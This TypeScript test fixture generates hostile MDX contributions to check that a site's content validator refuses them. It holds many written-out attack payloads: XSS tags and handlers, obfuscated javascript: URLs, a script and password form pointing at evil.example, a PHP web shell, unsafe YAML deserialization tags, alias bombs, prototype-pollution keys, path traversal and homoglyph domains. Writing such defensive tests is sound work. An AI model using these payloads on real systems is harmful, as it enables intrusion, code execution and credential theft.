import type { ProblemCode } from '../../src/guard/codes.ts';

/** A contribution that means harm: the text of its index.mdx, and what the check has to say of which line. */
export interface Attack {
  readonly name: string;
  readonly kind: string;
  readonly text: string;
  /** Any of these is the right answer. */
  readonly codes: readonly ProblemCode[];
  /** Lines of the file in one of which it has to stand. */
  readonly lines: readonly [number, number];
  /** The words below the facts, for attacks on the story. */
  readonly body?: string;
}

/** What would happen if anything ran: an address is asked, a file appears. */
export interface Canary {
  readonly port: number;
  readonly file: string;
}

const facts = (slug: string) => `title: A hostile case
summary: A made-up case for the tests.
licence: CC-BY-4.0
review: { state: submitted, date: "2026-11" }
place:
  name: Nowhere valley
  countries: [ETH]
  point: { lat: 13.5, lon: 39.3, basis: editor }
ecosystems: [T4.1]
drivers: [overgrazing]
interventions: [exclosure]
restoration: rehabilitation
started: "1999"
outcomes: []
sources:
  - id: made-up-${slug}
    type: article-journal
    title: Nothing of this exists
    issued: "2020"`;

const before = (slug: string) => `## What was done\n\nWords that cite [@made-up-${slug}].\n\n`;

function inBody(kind: string, name: string, payload: string, codes: readonly ProblemCode[]): Attack {
  const slug = 'x';
  const head = `---\n${facts(slug)}\n---\n\n`;
  const body = `${before(slug)}${payload}\n\nMore words.\n`;
  const first = (head + before(slug)).split('\n').length;
  return {
    kind,
    name: `${kind}: ${name}`,
    text: head + body,
    codes,
    lines: [first, first + payload.split('\n').length - 1],
    body,
  };
}

/** Adds facts at the end of the others, or replaces a line of them. */
function inFacts(
  kind: string,
  name: string,
  payload: string,
  codes: readonly ProblemCode[],
  replaces?: string,
): Attack {
  const all = facts('x').split('\n');
  const at = replaces === undefined ? all.length : all.findIndex((line) => line.startsWith(replaces));
  if (at < 0) throw new Error(`no line begins with ${replaces}`);
  const lines = [
    ...all.slice(0, at),
    ...payload.split('\n'),
    ...all.slice(replaces === undefined ? at : at + 1),
  ];
  const text = `---\n${lines.join('\n')}\n---\n\n${before('x')}`;
  return {
    kind,
    name: `${kind}: ${name}`,
    text,
    codes,
    lines: [at + 2, at + 1 + payload.split('\n').length],
  };
}

const dollar = '$';

function programs({ port, file }: Canary): readonly string[] {
  return [
    `{require('node:fs').writeFileSync('${file}', 'ran')}`,
    `{process.mainModule.require('child_process').execSync('touch ${file}')}`,
    `{(() => { globalThis.ran = true; return process.env.GATE_CANARY })()}`,
    `{await fetch('http://127.0.0.1:${port}/')}`,
    `{globalThis.constructor.constructor('return process')().exit(7)}`,
    `{import('node:fs').then((fs) => fs.writeFileSync('${file}', 'ran'))}`,
    `{new Function('return process.env')().GATE_CANARY}`,
    `{eval("process.exit(7)")}`,
    `{\`${dollar}{process.env.GATE_CANARY}\`}`,
    `{\`${dollar}{\`${dollar}{{ a: { b: \`}\` } }}\`}\`}`,
    '{/* a comment with } and */ process.exit(7)}',
    '{"}" + process.env.GATE_CANARY + "{"}',
    `{import.meta.env.GATE_CANARY}`,
    `{Astro.request.headers}`,
    `{props.children}`,
    '{[1, 2].map((x) => <img src="x" onError={() => x} />)}',
    '{while (true) {}}',
    '{{ a: 1 }}',
    '{\u2028process.exit(7)}',
  ];
}

const contexts: readonly (readonly [string, (code: string) => string])[] = [
  ['alone', (code) => code],
  ['in a line', (code) => `The value is ${code} today.`],
  ['in a heading', (code) => `### A ${code}`],
  ['in a list', (code) => `- one\n- ${code}\n- three`],
  ['in a quotation', (code) => `> ${code}`],
  ['in a table', (code) => `| a | b |\n|---|---|\n| ${code.replaceAll('|', '\\|')} | c |`],
  ['in a link', (code) => `[words ${code}](https://example.org)`],
  ['in strong words', (code) => `**${code}**`],
  ['in a component', (code) => `<Note kind="caution" title="t">\n\n${code}\n\n</Note>`],
  ['as an attribute', (code) => `<Note kind="caution" title=${code}>\n\nWords.\n\n</Note>`],
  ['as a spread', (code) => `<Note kind="caution" title="t" {...${code.slice(1, -1)}}>\n\nWords.\n\n</Note>`],
];

const codeRefused: readonly ProblemCode[] = [
  'braces',
  'braces-attribute',
  'component-open',
  'text-syntax',
  'invisible-character',
  'html',
  'less-than',
];

const tags = [
  '<script>alert(1)</script>',
  '<script src="https://evil.example/x.js"></script>',
  '<SCRIPT>alert(1)</SCRIPT>',
  '<ScRiPt>alert(1)</ScRiPt>',
  '<script',
  '</script>',
  '<style>body { display: none }</style>',
  '<iframe src="https://evil.example"></iframe>',
  '<iframe srcdoc="&lt;script>alert(1)&lt;/script>"></iframe>',
  '<object data="data:text/html,x"></object>',
  '<embed src="x.swf" />',
  '<svg onload="alert(1)"></svg>',
  '<svg><script>alert(1)</script></svg>',
  '<svg><animate attributeName="href" values="javascript:alert(1)" /></svg>',
  '<svg><use href="data:image/svg+xml,x#a" /></svg>',
  '<svg><foreignObject><iframe src="x" /></foreignObject></svg>',
  '<math><mtext><table><mglyph><style><img src="x" onerror="alert(1)" /></style></mglyph></table></mtext></math>',
  '<img src="x" onerror="alert(1)" />',
  '<img src=x onerror=alert(1)>',
  '<img/src="x"/onerror="alert(1)"/>',
  '<video><source onerror="alert(1)" /></video>',
  '<audio src="x" onerror="alert(1)"></audio>',
  '<details open ontoggle="alert(1)"></details>',
  '<body onload="alert(1)">',
  '<form action="https://evil.example"><input name="password" /></form>',
  '<button formaction="javascript:alert(1)">press</button>',
  '<input autofocus onfocus="alert(1)" />',
  '<a href="javascript:alert(1)">press</a>',
  '<a href="https://example.org" onclick="alert(1)">press</a>',
  '<link rel="stylesheet" href="https://evil.example/x.css" />',
  '<meta http-equiv="refresh" content="0;url=https://evil.example" />',
  '<base href="https://evil.example/" />',
  '<template><script>alert(1)</script></template>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></p></noscript>',
  '<marquee onstart="alert(1)"></marquee>',
  '<dialog open>Log in again</dialog>',
  '<div style="position:fixed;inset:0;background:white">Log in</div>',
  '<b id="location">clobber</b>',
  '<p slot="head">x</p>',
  '<x-custom onclick="alert(1)"></x-custom>',
  '<a.b.c />',
  '<svg:script>alert(1)</svg:script>',
  '<></>',
  '<!-- a comment --><script>alert(1)</script>',
  '<!--><script>alert(1)</script>-->',
  '<![CDATA[<script>alert(1)</script>]]>',
  '<?php system($_GET["c"]); ?>',
  '<!DOCTYPE html><html></html>',
  '<%= system("id") %>',
  '<portal src="https://evil.example"></portal>',
  'words <script>alert(1)</script> words',
  '- <script>alert(1)</script>',
  '> <script>alert(1)</script>',
  '| a |\n|---|\n| <script>alert(1)</script> |',
  '**<script>alert(1)</script>**',
  '[<img src="x" onerror="alert(1)" />](https://example.org)',
];

const elements = [
  '<Fragment set:html="<script>alert(1)</script>" />',
  '<Note.Evil kind="caution" title="t" />',
  '<Object />',
  '<Image src="x" />',
  '<Code code="x" />',
  '<ClientRouter />',
  '<Astro />',
  '<React.Fragment />',
  '<Constructor />',
  '<_ />',
  '<$ />',
  '<Νote kind="caution" title="t" />', // a Greek capital
];

const plainNames = ['constructor', 'toString', 'hasOwnProperty', '__proto__', 'valueOf', 'prototype'];

const attributes = [
  'onClick="alert(1)"',
  'onclick="alert(1)"',
  'on:click="alert(1)"',
  'client:load',
  'client:only="react"',
  'client:idle=""',
  'server:defer',
  'set:html="<b>x</b>"',
  'set:text="x"',
  'is:raw',
  'is:inline',
  'is:global',
  'define:vars="x"',
  'transition:name="x"',
  'style="color:red"',
  'class="notice"',
  'class:list="x"',
  'id="contents"',
  'slot="head"',
  'srcdoc="x"',
  'href="javascript:alert(1)"',
  'dangerouslySetInnerHTML="x"',
  'innerHTML="x"',
  'children="x"',
  'ref="x"',
  'key="x"',
  'constructor="x"',
  'toString="x"',
  'hasOwnProperty="x"',
  '__proto__="x"',
  'xml:base="x"',
  'data-x="y"',
];

const modules = [
  "import fs from 'node:fs'",
  "import 'node:child_process'",
  "import * as fs from 'node:fs'",
  "import fs, { readFileSync } from 'node:fs'",
  "import{exec}from'node:child_process'",
  "import\t'x'",
  "import x from 'https://evil.example/x.js'",
  "import config from '../../../astro.config.mjs'",
  "import('node:fs')",
  'export const x = process.exit(7)',
  'export default function Layout() {}',
  "export * from 'node:fs'",
  "export { x } from 'y'",
  'export async function getStaticPaths() {}',
  'export `\\',
  'export const frontmatter = {\n  title: process.env.GATE_CANARY\n}',
  '  export const x = 1',
  "> import x from 'y'",
  '- export const x = 1',
  "1. import x from 'y'",
];

/** What stays on this site leads nowhere. */
const plainPath: readonly ProblemCode[] = ['dead-link', 'missing-file', 'link-scheme'];

/** Addresses as HTML and Markdown decode them; [1] says how the check names them where it is not link-scheme. */
const addresses: readonly (readonly [string, (readonly ProblemCode[])?])[] = [
  ['javascript:alert(1)'],
  ['JaVaScRiPt:alert(1)'],
  ['javascript&colon;alert(1)'],
  ['javascript&#58;alert(1)'],
  ['javascript&#x3A;alert(1)'],
  ['&#106;avascript:alert(1)'],
  ['&#x6A;&#x61;vascript:alert(1)'],
  ['java&Tab;script:alert(1)'],
  ['java&NewLine;script:alert(1)'],
  ['&#1;javascript:alert(1)'],
  ['&#x200B;javascript:alert(1)'],
  ['java&shy;script:alert(1)'],
  ['&nbsp;javascript:alert(1)'],
  ['javascript://example.org/%0aalert(1)'],
  ['vbscript:msgbox(1)'],
  ['data:text/html,x'],
  ['data:text/html;base64,PHNjcmlwdD4='],
  ['DATA&#58;image/svg+xml,x'],
  ['file:///etc/passwd'],
  ['blob:https://example.org/x'],
  ['filesystem:https://example.org/x'],
  ['view-source:https://example.org'],
  ['about:blank'],
  ['ftp://example.org/x'],
  ['ws://example.org'],
  ['tel:+1234'],
  ['intent://example.org'],
  ['ms-msdt:/id'],
  ['feed:javascript:alert(1)'],
  ['jar:https://example.org!/x'],
  ['http://example.org'],
  ['//evil.example/x'],
  ['/\\evil.example', plainPath],
  ['\\\\\\\\evil.example', plainPath],
  ['https:\\\\evil.example'],
  ['https:evil.example'],
  ['https://fao.org@evil.example/'],
  ['&#x2F;&#x2F;evil.example'],
  ['/protocols/../../../etc/passwd', plainPath],
  ['../../src/guard/body.ts', plainPath],
  ['javascript%3Aalert(1)', plainPath],
  ['/api/../admin', plainPath],
];

const linkForms: readonly (readonly [string, (address: string) => string])[] = [
  ['link', (address) => `[words of a link](${address})`],
  ['definition', (address) => `[words of a link][x]\n\n[x]: ${address}`],
  ['picture', (address) => `![A fenced plot](${address})`],
];

const hidden: readonly (readonly [string, ProblemCode])[] = [
  ...[
    '\u202a',
    '\u202b',
    '\u202c',
    '\u202d',
    '\u202e',
    '\u2066',
    '\u2067',
    '\u2068',
    '\u2069',
    '\u200e',
    '\u200f',
    '\u061c',
  ].map((sign): readonly [string, ProblemCode] => [sign, 'bidi-character']),
  ...[
    '\u0000',
    '\u0007',
    '\u001b',
    '\u007f',
    '\u0085',
    '\u00ad',
    '\u034f',
    '\u115f',
    '\u180e',
    '\u200b',
    '\u2028',
    '\u2060',
    '\u2063',
    '\u3164',
    '\ufe00',
    '\ufeff',
    '\uffa0',
    '\ufff9',
    '\u{e0041}',
    '\u{e0100}',
  ].map((sign): readonly [string, ProblemCode] => [sign, 'invisible-character']),
];

const yamlTags = [
  '!!js/function "function () { process.exit(7) }"',
  '!!js/regexp /x/',
  '!!js/undefined ""',
  '!!python/object/apply:os.system ["id"]',
  '!!python/object/new:type []',
  '!!ruby/object:Gem::Requirement {}',
  '!!java.lang.ProcessBuilder [["id"]]',
  '!!binary "R0lGODlhAQABAAAAACw="',
  '!!set { a, b }',
  '!!omap [a: 1]',
  '!!pairs [a: 1]',
  '!!timestamp 2001-12-14',
  '!<tag:yaml.org,2002:js/function> "x"',
  '!local "x"',
  '!e!x "x"',
];

function yamlAttacks(): Attack[] {
  const kind = 'yaml';
  const bomb = Array.from(
    { length: 12 },
    (_, at) =>
      `b${at}: &b${at} [${Array(9)
        .fill(at === 0 ? 'x' : `*b${at - 1}`)
        .join(', ')}]`,
  );
  const refused: readonly ProblemCode[] = ['yaml-tag', 'yaml-syntax', 'wrong-form', 'not-text'];
  return [
    ...yamlTags.map((tag) => inFacts(kind, tag, `started: ${tag}`, refused, 'started:')),
    inFacts(kind, 'a bomb of aliases', bomb.join('\n'), ['yaml-anchor', 'yaml-alias']),
    inFacts(kind, 'an alias of itself', 'drivers: &a [*a]', ['yaml-anchor', 'yaml-alias'], 'drivers:'),
    inFacts(kind, 'an anchor on a key', '&a drivers: [overgrazing]', ['yaml-anchor'], 'drivers:'),
    inFacts(kind, 'a merge key', '<<: { licence: MIT }', ['unknown-key']),
    inFacts(kind, 'a merge of an alias', 'x: &x { a: 1 }\n<<: *x', ['yaml-anchor', 'yaml-alias']),
    inFacts(
      kind,
      'a nest of brackets',
      `drivers: ${'['.repeat(3000)}${']'.repeat(3000)}`,
      ['yaml-depth'],
      'drivers:',
    ),
    inFacts(kind, 'a nest of braces', `drivers: ${'{a: '.repeat(3000)}`, ['yaml-depth'], 'drivers:'),
    inFacts(kind, 'a nest of lists', `drivers:\n${'- '.repeat(3000)}x`, ['yaml-depth'], 'drivers:'),
    inFacts(
      kind,
      'a nest of lines',
      `x:\n${Array.from({ length: 150 }, (_, at) => `${' '.repeat(at + 1)}k:`).join('\n')}`,
      ['yaml-depth'],
    ),
    inFacts(kind, 'a second document', '---x\nadmin: true', ['yaml-syntax', 'unknown-key']),
    inFacts(kind, 'a complex key', '? [a, b]\n: c', ['yaml-syntax', 'unknown-key', 'yaml-indentation']),
    inFacts(kind, 'a key of code', '"{process.exit(7)}": 1', ['unknown-key']),
    inFacts(
      kind,
      'a number without end',
      `area: { value: ${'9'.repeat(400)}, unit: har, sources: [made-up-x] }`,
      ['not-a-number', 'invalid', 'number-format', 'too-large'],
    ),
    inFacts(kind, 'infinity', 'area: { value: .inf, unit: har, sources: [made-up-x] }', [
      'not-a-number',
      'invalid',
      'number-format',
      'not-a-whole-number',
    ]),
    inFacts(kind, 'not a number', 'area: { value: .nan, unit: har, sources: [made-up-x] }', [
      'not-a-number',
      'invalid',
      'number-format',
      'not-a-whole-number',
    ]),
    inFacts(kind, 'a title of a novel', `title: ${'x'.repeat(5000)}`, ['too-long'], 'title:'),
    inFacts(
      kind,
      'ten thousand drivers',
      `drivers: [${Array(10_000).fill('x').join(', ')}]`,
      ['not-allowed'],
      'drivers:',
    ),
    inFacts(kind, 'ten thousand keys', Array.from({ length: 5000 }, (_, at) => `k${at}: 1`).join('\n'), [
      'unknown-key',
    ]),
    ...[
      '__proto__',
      'constructor',
      'prototype',
      '"__proto__"',
      '"__pro\\x74o__"',
      '"\\u005f_proto__"',
      "'__proto__'",
      '? __proto__\n',
    ].map((key) => inFacts('prototype', key, `${key}: { polluted: true }`, ['reserved-key', 'unknown-key'])),
    inFacts('prototype', 'deeper', 'x: { y: { __proto__: { polluted: true } } }', ['reserved-key']),
    inFacts('prototype', 'in a list', 'x:\n  - constructor: { prototype: { polluted: true } }', [
      'reserved-key',
    ]),
    ...['title', 'licence', 'sources'].map((key) =>
      inFacts(kind, `${key} twice`, `${key}: other`, ['yaml-duplicate-key']),
    ),
  ];
}

function frontMatter(): Attack[] {
  const rest = `\ntitle: x\n---\n\n## What was done\n`;
  const languages = ['js', 'javascript', 'coffee', 'json', 'toml', ' js', 'yaml', 'ts', '{process.exit(7)}'];
  const made = (
    name: string,
    text: string,
    codes: readonly ProblemCode[],
    lines: readonly [number, number] = [1, 1],
  ): Attack => ({
    kind: 'front matter',
    name: `front matter: ${name}`,
    text,
    codes,
    lines,
  });
  return [
    ...languages.map((language) =>
      made(`---${language}`, `---${language}\nmodule.exports = process.exit(7)${rest}`, [
        'front-matter-language',
      ]),
    ),
    ...['+++', ';;;', '===', '<?xml version="1.0"?>', '{"title": 1}', '#!/bin/sh', '\n---', ' ---'].map(
      (fence) => made(JSON.stringify(fence), `${fence}${rest}`, ['front-matter-missing']),
    ),
    made('without end', '---\ntitle: x\n', ['front-matter-open']),
    inBody('front matter', 'a second one', '---js\nprocess.exit(7)\n---', ['heading-unknown', 'braces']),
  ];
}

function factAttacks(): Attack[] {
  const kind = 'facts';
  const source = (line: string) => `    ${line}`;
  const urls = [
    'javascript:alert(1)',
    'data:text/html,x',
    'vbscript:x',
    '//evil.example',
    'https://',
    'https://fao.org@evil.example',
    "https://e.org/'onclick='x",
    'https://e.org/<script>',
    'ftp://e.org',
    '\\\\evil',
  ];
  const dois = [
    'javascript:alert(1)',
    '10.1/x',
    '10.1234/a"onclick="x',
    "10.1234/a'b",
    '10.1234/{x}',
    '10.1234/a\\b',
  ];
  return [
    ...urls.map((url) => inFacts(kind, `URL ${url}`, source(`URL: ${JSON.stringify(url)}`), ['bad-address'])),
    ...dois.map((doi) => inFacts(kind, `DOI ${doi}`, source(`DOI: ${JSON.stringify(doi)}`), ['bad-doi'])),
    ...['../../x', 'x/../y', '<b>', 'a b', 'javascript:x', 'con', '.', '%2e%2e'].map((id) =>
      inFacts(kind, `reference ${id}`, `models: [${JSON.stringify(id)}]`, ['bad-id', 'dead-reference']),
    ),
    ...['<script>alert(1)</script>', '{process.exit(7)}', '=cmd()'].map((text) =>
      inFacts(kind, `licence ${text}`, `licence: ${JSON.stringify(text)}`, ['not-allowed'], 'licence:'),
    ),
    inFacts(kind, 'an unknown key of HTML', 'html: <script>alert(1)</script>', ['unknown-key']),
    inFacts(kind, 'a layout', 'layout: ../../layouts/Page.astro', ['unknown-key']),
    inFacts(kind, 'imports', 'imports: [node:fs]', ['unknown-key']),
    inFacts(
      kind,
      'a review of oneself',
      'review: { state: reviewed, date: "2026-11" }',
      ['review-without-reviewers'],
      'review:',
    ),
    inFacts(kind, 'an ORCID of nobody', 'authors: [{ name: A, orcid: 0000-0002-1825-0098 }]', [
      'orcid-check-digit',
    ]),
  ];
}

function equationAttacks(): Attack[] {
  const equations = [
    '\\href{javascript:alert(1)}{x}',
    '\\url{javascript:alert(1)}',
    '\\includegraphics{https://evil.example/x.png}',
    '\\htmlData{a=b}{x}',
    '\\htmlStyle{color:red}{x}',
    '\\htmlId{x}{y}',
    '\\htmlClass{x}{y}',
    '\\def\\a{\\a\\a}\\a',
    '\\color{red;x}y',
    '\\frac{a',
    `${'{'.repeat(400)}x${'}'.repeat(400)}\\frac`,
  ];
  return equations.map((tex) =>
    inBody('equation', tex.slice(0, 30), `So $$${tex}$$ it is.`, ['equation', 'braces', 'too-many-signs']),
  );
}

function amounts(): Attack[] {
  const codes: readonly ProblemCode[] = [
    'text-depth',
    'too-many-signs',
    'component-open',
    'braces',
    'less-than',
    'html',
  ];
  return [
    '> ',
    '- ',
    '1. ',
    '> - ',
    '>',
    '{',
    '<',
    '<Note ',
    '{\n',
    '<!--\n',
    "{'\n",
    '{`\n',
    '<Note kind="',
  ].map((sign) => inBody('amount', JSON.stringify(sign), sign.repeat(3000), codes));
}

/** Every attack; the programs in them would be noticed by a canary if they ran. */
export function attacks(canary: Canary): Attack[] {
  const code = programs(canary).flatMap((program) =>
    contexts.map(([place, write]) =>
      inBody('program', `${program.slice(0, 40)} ${place}`, write(program), codeRefused),
    ),
  );
  const htmlCodes: readonly ProblemCode[] = [
    'html',
    'component',
    'less-than',
    'component-open',
    'text-syntax',
    'braces',
  ];
  return [
    ...code,
    ...tags.map((tag) => inBody('html', tag, tag, htmlCodes)),
    ...elements.map((element) => inBody('component', element, element, ['component', 'confusable', 'html'])),
    ...plainNames.map((name) => inBody('component', name, `<${name} />`, ['html', 'component', 'less-than'])),
    ...attributes.map((attribute) =>
      inBody('attribute', attribute, `<Note kind="caution" title="t" ${attribute}>\n\nWords.\n\n</Note>`, [
        'attribute-unknown',
        'component-open',
        'component-place',
      ]),
    ),
    ...[
      '../../../etc/passwd',
      '/etc/passwd',
      'https://evil.example/x.png',
      '//evil.example/x.png',
      'javascript:alert(1)',
      'data:image/png,x',
      'x.svg',
      'none.csv',
      '%2e%2e/x.csv',
      '..\\x.csv',
    ].map((src) =>
      inBody('file', src, `<DataTable src="${src}" caption="c" />`, ['missing-file', 'link-scheme']),
    ),
    ...modules.map((text) => inBody('module', text, text, ['import', 'braces', 'html'])),
    ...addresses.flatMap(([address, codes]) =>
      linkForms.map(([form, write]) =>
        inBody(
          'address',
          `${form} ${address}`,
          write(address),
          codes ?? ['link-scheme', 'invisible-character', 'bidi-character'],
        ),
      ),
    ),
    inBody('address', 'in angle brackets', '<javascript:alert(1)>', ['autolink', 'html', 'less-than']),
    inBody('address', 'bare', 'See www.evil.example now.', ['link-scheme']),
    ...hidden.map(([sign, codeOf]) =>
      inBody('hidden', `U+${sign.codePointAt(0)?.toString(16)} in words`, `The val${sign}ley.`, [codeOf]),
    ),
    ...hidden
      .slice(0, 20)
      .map(([sign, codeOf]) =>
        inFacts(
          'hidden',
          `U+${sign.codePointAt(0)?.toString(16)} in facts`,
          `title: A val${sign}ley`,
          [codeOf],
          'title:',
        ),
      ),
    ...[
      'cаrbon',
      'Ѕoil',
      'pаypal',
      'ΑI carbon',
      'Ethiорia',
      '𝐜arbon',
      'ｃarbon',
      'сarbоn stосk',
      'почвa и водa',
    ].map((text) => inBody('look-alike', text, `The ${text} is here.`, ['confusable'])),
    ...['https://wіkipedia.org', 'https://fаo.org/x'].map((address) =>
      inBody('look-alike', address, `See [the report](${address}).`, ['confusable']),
    ),
    ...yamlAttacks(),
    ...frontMatter(),
    ...factAttacks(),
    ...equationAttacks(),
    ...amounts(),
  ];
}
